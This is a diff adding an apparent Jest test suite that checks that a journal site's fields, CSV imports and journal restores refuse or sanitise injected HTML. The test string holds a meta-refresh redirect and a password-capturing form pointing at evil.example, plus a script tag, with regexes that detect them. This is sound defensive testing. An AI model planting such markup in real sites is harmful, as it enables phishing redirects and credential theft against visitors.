@@ -1,0 +1,334 @@
+import { readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { Types } from 'mongoose';
+import { articleFields, enteredArticleFields } from '#contracts/article-fields.ts';
+import { editorFields } from '#contracts/editor-fields.ts';
+import type { StaffArticle } from '#contracts/entities.ts';
+import { entryFields } from '#contracts/entry-fields.ts';
+import type { ErrorBody } from '#contracts/errors.ts';
+import { type Field, type Fields, namesOf } from '#contracts/fields.ts';
+import { pageFields } from '#contracts/page-fields.ts';
+import { partnerFields } from '#contracts/partner-fields.ts';
+import { paths } from '#contracts/paths.ts';
+import { decodeRichText, type EncodedHtml } from '#contracts/rich-text.ts';
+import { settingsFields } from '#contracts/settings-fields.ts';
+import { userFields } from '#contracts/user-fields.ts';
+import { addIssue, articleForm, sendArticle } from './articles.ts';
+import { checkImport, importRow, loadImport, pdfsOf } from './imports.ts';
+import { makeZip } from './make-zip.ts';
+import { readZip } from './read-zip.ts';
+import { ADMIN } from './running-auth.ts';
+import { runCatalogWithWorker } from './running-catalog-worker.ts';
+import { type RunningWebdata, runWebdata } from './running-webdata.ts';
+import { ServiceProcess } from './service-process.ts';
+
+type Values = Record<string, unknown>;
+
+const hostile =
+  'Hostile <i>words</i><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input name="password"></form><script>evil()</script>';
+/** What a browser would obey, on any page. */
+const obeyed = /<(?:meta http-equiv="refresh"|form action="https:\/\/evil|input name="password"|script>evil)/;
+const foreignTag = /<(?!\/?(?:p|br|i|em|b|strong|u|sub|sup|ul|ol|li|a|h2|h3)\b)/;
+
+/** Values with the markup somewhere, each of which the field refuses or makes harmless. */
+function hostileValues(field: Field): unknown[] {
+  if (field.type === 'picture') return [];
+  if (field.type === 'list') return [[hostile]];
+  if (field.type !== 'rows') return [hostile];
+  const { row } = field;
+  return namesOf(row).flatMap((name) =>
+    hostileValues(row[name]!).map((value) => [{ ...requiredOf(row), [name]: value }]),
+  );
+}
+
+const requiredOf = (row: Fields): Values =>
+  Object.fromEntries(
+    Object.entries(row).flatMap(([name, field]) => {
+      if (field.optional) return [];
+      return [[name, field.type === 'choice' ? field.options[0] : name === 'year' ? '2024' : 'Asha Verma']];
+    }),
+  );
+
+const isRich = (field: Field | undefined) => field?.type === 'rich';
+
+/** Every rich text of an API response, wherever an entity is in it. */
+function expectSanitised(response: unknown, fields: Fields): void {
+  if (typeof response !== 'object' || response === null) return;
+  for (const [name, value] of Object.entries(response)) {
+    const field = fields[name];
+    if (field?.type !== 'rich' || typeof value !== 'string') expectSanitised(value, fields);
+    else {
+      const html = field.encoded === false ? value : decodeRichText(value as EncodedHtml);
+      if (field.encoded !== false) expect([name, value]).toEqual([name, expect.not.stringMatching(/[<>"]/)]);
+      expect([name, html]).toEqual([name, expect.not.stringMatching(foreignTag)]);
+    }
+  }
+}
+
+describe('Markup in every field of every entity', () => {
+  let catalog: Awaited<ReturnType<typeof runCatalogWithWorker>>;
+  let webdata: RunningWebdata;
+  let web: ServiceProcess;
+  const acceptedBy = new Map<string, Values>();
+
+  beforeAll(async () => {
+    catalog = await runCatalogWithWorker();
+    webdata = await runWebdata(catalog.environment, catalog.auth);
+    const addresses = {
+      CATALOG_URL: catalog.url,
+      DOCUMENTS_URL: catalog.url,
+      SITE_ORIGIN: 'https://journal.example',
+    };
+    web = await ServiceProcess.start('web', 'main', { HOST: '127.0.0.1', ...addresses });
+    await addIssue(catalog.staff);
+  });
+  afterAll(async () => {
+    await web.stop();
+    await webdata.close();
+    await catalog.close();
+  });
+
+  const users = (path: string, body: object) =>
+    fetch(catalog.auth.url + path, {
+      method: 'POST',
+      headers: { ...catalog.auth.signedIn, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    });
+
+  interface Entity {
+    fields: Fields;
+    /** Creates one that is valid but for the given values; multipart where the form is. */
+    create: (given: Values) => PromiseLike<Response>;
+    /** Changes one; those without such a call are created for each value. */
+    change?: (id: string, given: Values) => PromiseLike<Response>;
+    lists: string[];
+    /** The pages that readers see it on. */
+    pages: (entity: never) => string[];
+  }
+  interface Response {
+    status: number;
+    body: unknown;
+  }
+
+  const asForm = (values: Values) =>
+    Object.fromEntries(
+      Object.entries(values).map(([name, value]) => [
+        name,
+        typeof value === 'string' ? value : JSON.stringify(value),
+      ]),
+    );
+  const changeAt = (path: string) => (id: string, given: Values) =>
+    catalog.staff.post(`${path}/${id}`).send(given);
+  const usersCall = async (path: string, given: Values): Promise<Response> => {
+    const response = await users(path, { current_password: ADMIN.password, ...given });
+    return { status: response.status, body: (await response.json()) as unknown };
+  };
+
+  const entities: Record<string, Entity> = {
+    article: {
+      fields: enteredArticleFields,
+      create: (given) => sendArticle(catalog.staff, articleForm(asForm(given))),
+      change: changeAt('/api/archives'),
+      lists: ['/api/archives/2026/5/2', '/api/search?keyword=hostile', '/api/archives/recent'],
+      pages: (article: StaffArticle) => [
+        paths.article(article),
+        paths.issue(article),
+        '/',
+        '/recent',
+        '/search?keyword=hostile',
+        paths.publication(article.refnumber),
+      ],
+    },
+    editor: {
+      fields: editorFields,
+      create: (given) =>
+        catalog.staff
+          .post('/api/editors')
+          .field(
+            asForm({ name: 'Asha', category: 'chief editor', post: 'Head', content: 'University', ...given }),
+          ),
+      change: changeAt('/api/editors'),
+      lists: ['/api/editors'],
+      pages: () => ['/board'],
+    },
+    partner: {
+      fields: partnerFields,
+      create: (given) => catalog.staff.post('/api/indexing').field(asForm({ title: 'Index', ...given })),
+      change: changeAt('/api/indexing'),
+      lists: ['/api/indexing'],
+      pages: () => ['/indexing', '/'],
+    },
+    page: {
+      fields: pageFields,
+      create: (given) =>
+        catalog.staff.post('/api/pages').send({
+          ...{ title: 'Policy', slug: `policy-${new Types.ObjectId().toHexString()}`, date: '2026-01-31' },
+          ...{ kind: 'announcement', place: 'instructions', status: 'enabled', ...given },
+        }),
+      change: changeAt('/api/pages'),
+      lists: ['/api/pages', '/api/pages/in/instructions', '/api/announcements'],
+      pages: (page: { slug: string }) => [paths.page(page.slug), '/instructions', '/announcements'],
+    },
+    settings: {
+      fields: settingsFields,
+      create: (given) => catalog.staff.post('/api/settings').send(given),
+      lists: ['/api/settings'],
+      pages: () => ['/', '/about', '/contact', '/instructions'],
+    },
+    entry: {
+      fields: entryFields,
+      create: (given) => webdata.staff.post('/api/webdata').send({ content: 'x', status: 'info', ...given }),
+      lists: [],
+      pages: () => [],
+    },
+    user: {
+      fields: userFields,
+      create: (given) =>
+        usersCall('/api/users', {
+          ...{ name: `user ${new Types.ObjectId().toHexString()}`, password: 'a long password', ...given },
+        }),
+      change: (id, given) => usersCall(`/api/users/${id}`, given),
+      lists: [],
+      pages: () => [],
+    },
+  };
+
+  async function expectHarmless({ fields, lists, pages }: Entity, entity: never): Promise<void> {
+    for (const caller of [catalog.visitor, catalog.staff])
+      for (const list of lists) {
+        const response = await caller.get(list);
+        expect([list, response.status]).toEqual([list, 200]);
+        expectSanitised(response.body, fields);
+      }
+    for (const page of pages(entity)) {
+      const html = await (await fetch(web.url + page)).text();
+      expect([page, html]).toEqual([page, expect.not.stringMatching(obeyed)]);
+      expect([page, html]).toEqual([page, expect.stringContaining('Hostile')]);
+    }
+  }
+
+  it('is tried in the fields of every table', async () => {
+    const contracts = join(import.meta.dirname, '../../contracts/src');
+    const tables = readdirSync(contracts).filter((file) => file.endsWith('-fields.ts'));
+    const exported: unknown[] = [];
+    for (const file of tables)
+      exported.push(...Object.values((await import(join(contracts, file))) as Record<string, unknown>));
+    const withRows = (fields: Fields): Field[] =>
+      Object.values(fields).flatMap((field) => [
+        field,
+        ...(field.type === 'rows' ? withRows(field.row) : []),
+      ]);
+    const known = new Set(
+      [articleFields, ...Object.values(entities).map(({ fields }) => fields)].flatMap(withRows),
+    );
+    const isField = (value: unknown): value is Field =>
+      typeof value === 'object' && value !== null && 'label' in value && 'type' in value;
+    const all = exported.flatMap((table) => Object.values(table ?? {}).filter(isField));
+    expect(all.length).toBeGreaterThan(100);
+    expect(all.filter((field) => !known.has(field))).toEqual([]);
+  });
+
+  it.each(Object.keys(entities))('is refused, or harmless when it is sent and shown: %s', async (kind) => {
+    const entity = entities[kind]!;
+    const { fields, create, change } = entity;
+    const { id } = (await create({})).body as { id: string };
+    const accepted: Values = {};
+    for (const name of namesOf(fields))
+      for (const value of hostileValues(fields[name]!)) {
+        const response = await (change ? change(id, { [name]: value }) : create({ [name]: value }));
+        if (response.status < 300) {
+          const rows = Array.isArray(value) && Array.isArray(accepted[name]) ? accepted[name] : [];
+          accepted[name] = Array.isArray(value) ? [...(rows as unknown[]), ...(value as unknown[])] : value;
+          expectSanitised(response.body, fields);
+        } else {
+          const body = response.body as ErrorBody;
+          expect(response.status).toBeLessThan(500);
+          const named = Object.keys(body.fields ?? { [name]: '' }).map((field) => field.split('.')[0]);
+          expect([name, value, named]).toEqual([name, value, [name]]);
+        }
+      }
+    const rich = namesOf(fields).filter((name) => isRich(fields[name]));
+    expect(Object.keys(accepted)).toEqual(expect.arrayContaining(rich));
+    acceptedBy.set(kind, accepted);
+    // An article with the title is there by now.
+    const again = kind === 'article' ? { title: `Another ${hostile}` } : {};
+    const created = await create({ ...accepted, ...again });
+    expect([created.body, created.status < 300]).toEqual([created.body, true]);
+    expectSanitised(created.body, fields);
+    await expectHarmless(entity, created.body as never);
+  });
+
+  it('is refused, or harmless when a list of articles is imported as CSV', async () => {
+    const texts = Object.entries(acceptedBy.get('article')!).filter(([, value]) => typeof value === 'string');
+    const row = importRow({ ...Object.fromEntries(texts), title: `Imported ${hostile}` });
+    const quoted = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
+    const csv = [Object.keys(row), Object.values(row)].map((cells) => cells.map(quoted).join(',')).join('\n');
+    const checked = await checkImport(
+      catalog.staff,
+      makeZip([{ name: 'articles.csv', data: csv }, ...pdfsOf([row])]),
+    );
+    expect(checked).toMatchObject({ state: 'checked', problems: 0, rows: [] });
+    expectSanitised(
+      (await catalog.staff.get(`/api/admin/imports/${checked.id}/articles`)).body,
+      articleFields,
+    );
+    await loadImport(catalog.staff, checked);
+    const article = await catalog.visitor.get(`/api/archives/ref/${String(row.refnumber)}`);
+    expectSanitised(article.body, articleFields);
+    await expectHarmless(entities.article!, article.body as never);
+  });
+
+  it('is harmless in every list of an imported journal', async () => {
+    const response = await catalog.staff.get('/api/admin/export').responseType('blob');
+    const files = [...(await readZip(response.body as Buffer))].filter(([name]) => name !== 'articles.json');
+    const marked = (fields: Fields) =>
+      Object.fromEntries(
+        namesOf(fields)
+          .filter((name) => isRich(fields[name]))
+          .map((name) => [name, hostile]),
+      );
+    const id = () => new Types.ObjectId().toHexString();
+    const tables: Record<string, (row: Values) => Values> = {
+      'editors.json': (row) => ({ ...row, ...marked(editorFields), id: id() }),
+      'indexing.json': (row) => ({ ...row, ...marked(partnerFields), id: id() }),
+      'pages.json': (row) => ({ ...row, ...marked(pageFields), slug: `imported-${id()}`, id: id() }),
+      'settings.json': (row) => ({ ...row, ...marked(settingsFields) }),
+    };
+    const lists = files.map(([name, data]) => {
+      const table = tables[name];
+      if (!table) return { name, data };
+      const rows = JSON.parse(data.toString()) as Values | Values[];
+      return { name, data: JSON.stringify(Array.isArray(rows) ? rows.map(table) : table(rows)) };
+    });
+    expect(lists.map(({ name }) => name)).toEqual(expect.arrayContaining(Object.keys(tables)));
+    const row = importRow({
+      ...marked(articleFields),
+      title: `Restored ${hostile}`,
+      pdf: 'articles/restored.pdf',
+    });
+    const restored = {
+      ...{ ...row, id: id(), status: 'enabled', createdby: 'x', modifiedby: 'x', version: 1 },
+      ...{ creation: '2026-01-31T09:30:00.000Z', modification: '2026-01-31T09:30:00.000Z' },
+    };
+    const others = lists.filter(({ name }) => name !== 'issues.json');
+    const zip = makeZip([
+      ...others,
+      { name: 'articles.json', data: JSON.stringify([restored]) },
+      ...pdfsOf([row]),
+    ]);
+    const checked = await checkImport(catalog.staff, zip);
+    expect(checked).toMatchObject({ state: 'checked', contents: 'journal', problems: 0, rows: [] });
+    await loadImport(catalog.staff, checked);
+    for (const kind of ['editor', 'partner', 'settings']) await expectHarmless(entities[kind]!, {} as never);
+    const article = await catalog.visitor.get(`/api/archives/ref/${String(row.refnumber)}`);
+    await expectHarmless(entities.article!, article.body as never);
+    for (const { slug } of (await catalog.visitor.get('/api/pages/in/instructions')).body as {
+      slug: string;
+    }[]) {
+      expectSanitised((await catalog.visitor.get(`/api/pages/${slug}`)).body, pageFields);
+      const html = await (await fetch(web.url + paths.page(slug))).text();
+      expect([slug, html]).toEqual([slug, expect.not.stringMatching(obeyed)]);
+    }
+  });
+});
